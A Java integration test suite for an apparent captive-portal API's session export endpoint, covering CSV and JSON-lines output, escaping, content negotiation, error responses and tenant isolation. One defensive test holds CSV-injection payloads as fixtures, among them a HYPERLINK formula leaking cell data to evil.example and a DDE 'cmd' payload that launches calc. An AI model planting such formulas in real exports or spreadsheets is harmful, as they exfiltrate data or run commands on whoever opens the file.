package captiva.sessions.export;

import static captiva.testing.Fixtures.session;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import captiva.testing.ApiTest;
import captiva.testing.Fixtures;
import captiva.testing.Fixtures.Key;
import captiva.testing.Fixtures.Location;
import captiva.testing.Fixtures.SessionSpec;
import captiva.testing.Fixtures.Tenant;
import captiva.testing.Http;
import com.fasterxml.jackson.databind.JsonNode;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@MicronautTest(transactional = false)
@DisplayName("GET /sessions/export")
class SessionExportTest extends ApiTest {

    private static final String CSV = "text/csv";
    private static final String NDJSON = "application/x-ndjson";

    /** Rate limits have their own test (ExportRateLimitTest); here every test may export freely. */
    @Override
    protected Map<String, String> extraProperties() {
        return Map.of("captiva.rate-limit.export-per-minute", "100000");
    }

    private Http.Response export(Key key, String query, String accept) {
        String[] auth = key.auth();
        Http.Response r =
                accept == null
                        ? http().get("/sessions/export?" + query, auth)
                        : http().get(
                                        "/sessions/export?" + query,
                                        auth[0],
                                        auth[1],
                                        "Accept",
                                        accept);
        return r;
    }

    /** Every session GET /sessions lists for the query, page after page. */
    private List<JsonNode> allPages(Key key, String query) {
        List<JsonNode> sessions = new ArrayList<>();
        for (int page = 1; ; page++) {
            Http.Response r =
                    http().get("/sessions?" + query + "&per_page=100&page=" + page, key.auth());
            assertEquals(200, r.status(), r.body());
            r.json().get("data").forEach(sessions::add);
            if (r.json().get("links").get("next").isNull()) {
                return sessions;
            }
        }
    }

    /** A session object's fields as text, in order; JSON null stays null. */
    private static Map<String, String> fieldsAsText(JsonNode session) {
        Map<String, String> fields = new LinkedHashMap<>();
        for (Iterator<Map.Entry<String, JsonNode>> it = session.fields(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> field = it.next();
            fields.put(
                    field.getKey(), field.getValue().isNull() ? null : field.getValue().asText());
        }
        return fields;
    }

    /** The CSV's rows as header name to value. */
    private static List<Map<String, String>> csvRows(String body) {
        List<List<String>> records = Csv.parse(body);
        List<String> header = records.get(0);
        List<Map<String, String>> rows = new ArrayList<>();
        for (List<String> record : records.subList(1, records.size())) {
            assertEquals(header.size(), record.size(), "fields in " + record);
            Map<String, String> row = new LinkedHashMap<>();
            for (int i = 0; i < header.size(); i++) {
                row.put(header.get(i), record.get(i));
            }
            rows.add(row);
        }
        return rows;
    }

    private static List<JsonNode> jsonLines(String body) {
        List<JsonNode> lines = new ArrayList<>();
        if (body.isEmpty()) {
            return lines;
        }
        assertTrue(body.endsWith("\n"), "every line ends with LF");
        for (String line : body.substring(0, body.length() - 1).split("\n", -1)) {
            try {
                lines.add(Http.JSON.readTree(line));
            } catch (IOException e) {
                throw new UncheckedIOException("not JSON: " + line, e);
            }
        }
        return lines;
    }

    @Nested
    @DisplayName("rows")
    class Rows {

        private Tenant tenant;
        private Location lobby;
        private Location pool;
        private Key key;

        /**
         * 230 sessions (more than two full pages of 100) at two venues in different zones, pairs
         * sharing a start time, every tenth still online, some with guests.
         */
        @BeforeAll
        void sessions() {
            tenant = given().tenant("Europe/London");
            lobby = given().location(tenant, "Europe/London");
            pool = given().location(tenant, "America/New_York");
            key = given().readKey(tenant);
            Instant base = Instant.parse("2024-03-01T08:00:00Z");
            List<SessionSpec> specs = new ArrayList<>();
            for (int i = 0; i < 230; i++) {
                Instant start = base.plusSeconds(i / 2 * 1800L);
                SessionSpec s =
                        session(i % 3 == 0 ? pool : lobby)
                                .started(start)
                                .mac(String.format("14:2d:27:e7:40:%02x", i % 7))
                                .ip("10.0.0." + (i % 250))
                                .bytes(1_000_000L * i, 1_000L * i)
                                .username("room" + (i % 11));
                if (i % 10 == 0) {
                    s.online();
                } else {
                    s.ended(start.plusSeconds(600 + i));
                }
                if (i % 5 == 0) {
                    s.guest("Guest " + i, "guest" + i + "@example.com", "yas-" + (i % 4));
                }
                specs.add(s);
            }
            given().sessions(specs.toArray(SessionSpec[]::new));
            // Online sessions' durations run with the clock: stop it so pages and exports agree.
            clock.freezeAt(Instant.now());
        }

        @AfterAll
        void realTime() {
            clock.reset();
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "",
                    "online=true",
                    "online=false",
                    "start_time=2024-03-02",
                    "end_time=2024-03-02",
                    "start_time=2024-03-01T20:00:00Z&end_time=2024-03-03T01:00:00Z",
                    "guest_device_mac=14-2D-27-E7-40-03",
                    "yas_id=yas-2",
                    "location_id=LOBBY&online=false&start_time=2024-03-02",
                    "location_id=POOL&end_time=2024-03-02"
                })
        void csvRowsAreTheSessionsThePagesListForTheSameFilters(String query) {
            String q = query.replace("LOBBY", lobby.id()).replace("POOL", pool.id());
            List<Map<String, String>> expected =
                    allPages(key, q).stream().map(SessionExportTest::fieldsAsText).toList();

            Http.Response r = export(key, q, CSV);

            assertEquals(200, r.status(), r.body());
            assertEquals(expected, csvRows(r.body()));
            assertTrue(
                    query.contains("=") || expected.size() == 230,
                    "the unfiltered export has every session");
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "",
                    "online=true",
                    "start_time=2024-03-02",
                    "end_time=2024-03-02",
                    "guest_device_mac=14:2d:27:e7:40:03",
                    "yas_id=yas-2",
                    "location_id=POOL&online=false"
                })
        void jsonLinesAreTheSessionObjectsThePagesListForTheSameFilters(String query) {
            String q = query.replace("POOL", pool.id());
            List<JsonNode> expected = allPages(key, q);

            Http.Response r = export(key, q, NDJSON);

            assertEquals(200, r.status(), r.body());
            assertEquals(expected, jsonLines(r.body()));
        }

        @Test
        void csvHeaderNamesEveryFieldOfASessionObjectInOrder() {
            List<String> fields = new ArrayList<>(fieldsAsText(allPages(key, "").get(0)).keySet());

            Http.Response r = export(key, "", CSV);

            assertEquals(fields, Csv.parse(r.body()).get(0));
        }

        @Test
        void answerIsAnAttachmentWithAFilenameOfItsFormat() {
            Http.Response csv = export(key, "", CSV);
            Http.Response ndjson = export(key, "", NDJSON);

            assertEquals("text/csv; charset=utf-8; header=present", csv.contentType());
            assertTrue(
                    csv.header("Content-Disposition")
                            .orElseThrow()
                            .matches("attachment; filename=\"sessions-\\d{8}T\\d{6}Z\\.csv\""),
                    csv.header("Content-Disposition").orElseThrow());
            assertEquals(NDJSON, ndjson.contentType());
            assertTrue(
                    ndjson.header("Content-Disposition")
                            .orElseThrow()
                            .matches("attachment; filename=\"sessions-\\d{8}T\\d{6}Z\\.ndjson\""),
                    ndjson.header("Content-Disposition").orElseThrow());
        }

        @Test
        void anExportReadToTheEndLeavesItsSlotForTheNext() {
            // one export at a time per tenant: each must have given its slot back by the time
            // its client has the whole answer
            for (int i = 0; i < 100; i++) {
                int round = i;
                Http.Response r = export(key, "", NDJSON);
                assertEquals(NDJSON, r.contentType(), () -> "export " + round + ": " + r.body());
            }
        }

        @Test
        void answerCarriesTheRateLimitHeaders() {
            Http.Response r = export(key, "", CSV);

            assertTrue(r.header("X-RateLimit-Limit").isPresent());
            assertTrue(r.header("X-RateLimit-Remaining").isPresent());
        }
    }

    @Nested
    @DisplayName("CSV")
    class CsvText {

        @Test
        void commasQuotesNewlinesAndNonAsciiSurviveTheRoundTrip() {
            Tenant tenant = given().tenant();
            String venue = "Café \"Zürich\", Bar\r\nand 東京 🏨";
            Http.Response created =
                    http().post(
                                    "/admin/tenants/" + tenant.id() + "/locations",
                                    Map.of("name", venue, "time_zone", "Europe/Zurich"),
                                    Fixtures.admin());
            assertEquals(201, created.status(), created.body());
            Location location =
                    new Location(created.json().get("id").asText(), tenant, "Europe/Zurich");
            Key key = given().readKey(tenant);
            String device = "Mozilla/5.0 (X11; Linux), \"quoted\"\nnext line";
            given().sessions(
                            session(location)
                                    .field("guest_device_description", device)
                                    .field("access_code", ""));

            Map<String, String> row = csvRows(export(key, "", CSV).body()).get(0);

            assertEquals(venue, row.get("location_name"));
            assertEquals(device, row.get("guest_device_description"));
        }

        @Test
        void nullIsAnEmptyFieldAndTheEmptyStringIsQuoted() {
            Tenant tenant = given().tenant();
            Location location = given().location(tenant);
            Key key = given().readKey(tenant);
            given().sessions(session(location).field("access_code", "").online());

            String body = export(key, "", CSV).body();
            Map<String, String> row = csvRows(body).get(0);

            assertEquals("", row.get("access_code"));
            assertEquals(null, row.get("end_time"));
            assertTrue(body.contains(",\"\","), body);
        }

        /**
         * OWASP's CSV injection advice: a spreadsheet runs a cell starting with = + - @ tab or CR
         * as a formula.
         */
        @Test
        void guestTextThatASpreadsheetWouldRunAsAFormulaIsPrefixedWithAQuoteInCsvOnly() {
            Tenant tenant = given().tenant();
            Map<String, String> hostile =
                    Map.of(
                            "location_name", "+1+1",
                            "guest_device_description",
                                    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
                            "access_code", "\t=cmd|' /C calc'!A0",
                            "login_type_name", "-2+3",
                            "service_profile_name", "@SUM(1+1)",
                            "yas_id", "\r=1+1");
            Http.Response created =
                    http().post(
                                    "/admin/tenants/" + tenant.id() + "/locations",
                                    Map.of(
                                            "name",
                                            hostile.get("location_name"),
                                            "time_zone",
                                            "UTC"),
                                    Fixtures.admin());
            assertEquals(201, created.status(), created.body());
            Location location = new Location(created.json().get("id").asText(), tenant, "UTC");
            Key key = given().readKey(tenant);
            given().sessions(
                            session(location)
                                    .field(
                                            "guest_device_description",
                                            hostile.get("guest_device_description"))
                                    .field("access_code", hostile.get("access_code"))
                                    .field("login_type_name", hostile.get("login_type_name"))
                                    .field(
                                            "service_profile_name",
                                            hostile.get("service_profile_name"))
                                    .guest("Name", "a@example.com", hostile.get("yas_id")));

            Map<String, String> row = csvRows(export(key, "", CSV).body()).get(0);
            JsonNode line = jsonLines(export(key, "", NDJSON).body()).get(0);

            hostile.forEach(
                    (field, value) -> {
                        assertEquals("'" + value, row.get(field), field);
                        assertEquals(
                                value,
                                line.get(field).asText(),
                                "JSON lines carry " + field + " as stored");
                    });
        }

        @Test
        void textThatOnlyContainsAFormulaCharacterIsLeftAlone() {
            Tenant tenant = given().tenant();
            Location location = given().location(tenant);
            Key key = given().readKey(tenant);
            given().sessions(
                            session(location)
                                    .field("guest_device_description", "a=b, c+d -e @f")
                                    .field("access_code", "'x"));

            Map<String, String> row = csvRows(export(key, "", CSV).body()).get(0);

            assertEquals("a=b, c+d -e @f", row.get("guest_device_description"));
            assertEquals("'x", row.get("access_code"));
        }

        @Test
        void noMatchingSessionIsTheHeaderRowAlone() {
            Tenant tenant = given().tenant();
            Key key = given().readKey(tenant);

            Http.Response r = export(key, "", CSV);

            assertEquals(200, r.status());
            assertEquals(1, Csv.parse(r.body()).size());
            assertTrue(r.body().startsWith("id,location_id,location_name,"), r.body());
        }

        @Test
        void noMatchingSessionIsAnEmptyBodyInJsonLines() {
            Tenant tenant = given().tenant();
            Key key = given().readKey(tenant);

            Http.Response r = export(key, "", NDJSON);

            assertEquals(200, r.status());
            assertEquals("", r.body());
        }
    }

    @Nested
    @DisplayName("content negotiation")
    class Negotiation {

        private Key key;

        @BeforeAll
        void aKey() {
            Tenant tenant = given().tenant();
            given().sessions(session(given().location(tenant)));
            key = given().readKey(tenant);
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "text/csv",
                    "*/*",
                    "text/*",
                    "text/csv;q=0.9, application/x-ndjson;q=0.5",
                    "application/x-ndjson;q=0.2, */*;q=0.8",
                    "TEXT/CSV; charset=utf-8",
                    "application/json, text/csv;q=0.1"
                })
        void csvWhenRatedHighestOrAsGoodAsJsonLines(String accept) {
            assertEquals(
                    "text/csv; charset=utf-8; header=present",
                    export(key, "", accept).contentType());
        }

        @Test
        void csvWithoutAnAcceptHeader() {
            assertEquals(
                    "text/csv; charset=utf-8; header=present", export(key, "", null).contentType());
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "application/x-ndjson",
                    "application/*",
                    "text/csv;q=0.5, application/x-ndjson",
                    "*/*;q=0.1, application/x-ndjson",
                    "text/*;q=0, */*"
                })
        void jsonLinesWhenRatedHighest(String accept) {
            assertEquals(NDJSON, export(key, "", accept).contentType());
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "application/json",
                    "text/html",
                    "text/csv;q=0, application/x-ndjson;q=0",
                    "*/*;q=0",
                    "nonsense"
                })
        void nothingWeProduceIs406Problem(String accept) {
            Http.Response r = export(key, "", accept);

            assertEquals(406, r.status(), r.body());
            assertEquals("application/problem+json", r.contentType());
            assertTrue(
                    r.json().get("detail").asText().contains("text/csv, application/x-ndjson"),
                    r.body());
        }
    }

    @Nested
    @DisplayName("bad input")
    class BadInput {

        private Key key;

        @BeforeAll
        void aKey() {
            key = given().readKey(given().tenant());
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "location_id=not-an-id!",
                    "start_time=yesterday",
                    "end_time=2024-13-01",
                    "online=maybe",
                    "guest_device_mac=zz:zz",
                    "guest_id=x",
                    "online=true&online=false",
                    "page=2",
                    "per_page=5",
                    "cursor=",
                    "last_session_first=true"
                })
        void badFilterIs400ProblemNamingTheParameter(String query) {
            Http.Response r = export(key, query, CSV);

            assertEquals(400, r.status(), r.body());
            assertEquals("application/problem+json", r.contentType());
            String name = query.substring(0, query.indexOf('='));
            assertEquals(name, r.json().get("errors").get(0).get("name").asText(), r.body());
        }

        @Test
        void withoutAKeyIs401Problem() {
            Http.Response r = http().get("/sessions/export");

            assertEquals(401, r.status());
            assertEquals("application/problem+json", r.contentType());
        }

        @Test
        void keyWithoutReadScopeIs403Problem() {
            Key ingest = given().key(given().tenant(), List.of("ingest"), null, 100);

            Http.Response r = export(ingest, "", CSV);

            assertEquals(403, r.status());
            assertEquals("application/problem+json", r.contentType());
        }
    }

    @Nested
    @DisplayName("tenant isolation")
    class TenantIsolation {

        private Tenant ours;
        private Location lobby;
        private Location pool;
        private Location theirs;
        private List<String> lobbyIds;
        private List<String> poolIds;

        @BeforeAll
        void twoTenantsWithTheSameDevice() {
            ours = given().tenant();
            lobby = given().location(ours);
            pool = given().location(ours);
            Tenant other = given().tenant();
            theirs = given().location(other);
            lobbyIds = given().sessions(session(lobby).mac("14:2d:27:e7:40:2b"), session(lobby));
            poolIds = given().sessions(session(pool).mac("14:2d:27:e7:40:2b"));
            given().sessions(session(theirs).mac("14:2d:27:e7:40:2b"), session(theirs));
        }

        private List<String> exportedIds(Key key, String query) {
            Http.Response r = export(key, query, NDJSON);
            assertEquals(200, r.status(), r.body());
            return jsonLines(r.body()).stream().map(s -> s.get("id").asText()).toList();
        }

        @Test
        void aKeySeesItsOwnTenantsSessionsOnly() {
            List<String> ids = exportedIds(given().readKey(ours), "");

            assertEquals(3, ids.size());
            assertTrue(ids.containsAll(lobbyIds) && ids.containsAll(poolIds), ids.toString());
        }

        @Test
        void anotherTenantsLocationIdExportsNothing() {
            assertEquals(
                    List.of(), exportedIds(given().readKey(ours), "location_id=" + theirs.id()));
        }

        @Test
        void aSharedDeviceExportsOnlyOurSessionsOfIt() {
            List<String> ids =
                    exportedIds(given().readKey(ours), "guest_device_mac=14:2d:27:e7:40:2b");

            assertEquals(
                    List.of(lobbyIds.get(0), poolIds.get(0)).stream().sorted().toList(),
                    ids.stream().sorted().toList());
        }

        @Test
        void aRestrictedKeyExportsItsLocationsOnly() {
            Key lobbyOnly = given().readKey(ours, lobby);

            assertEquals(
                    lobbyIds.stream().sorted().toList(),
                    exportedIds(lobbyOnly, "").stream().sorted().toList());
            assertEquals(List.of(), exportedIds(lobbyOnly, "location_id=" + pool.id()));
        }
    }
}
